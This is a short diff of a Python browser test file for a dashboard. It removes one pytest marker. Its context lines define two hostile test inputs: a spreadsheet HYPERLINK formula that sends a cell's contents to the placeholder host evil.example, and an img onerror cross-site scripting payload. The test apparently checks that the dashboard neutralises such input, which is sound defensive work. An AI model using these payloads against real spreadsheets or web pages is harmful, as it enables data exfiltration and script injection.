@@ -13,7 +13,7 @@ from e2e.dashboard_pages import accessible, does_not_scroll_sideways, open_dashb
 from peers.fake_model_server import FakeModelServer
 from peers.running_desk import RunningDesk, running_desk
 
-pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("e2e"), pytest.mark.timeout(120)]
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"refund")'
 MARKUP = "<img src=x onerror=window.broken.push('run')>"
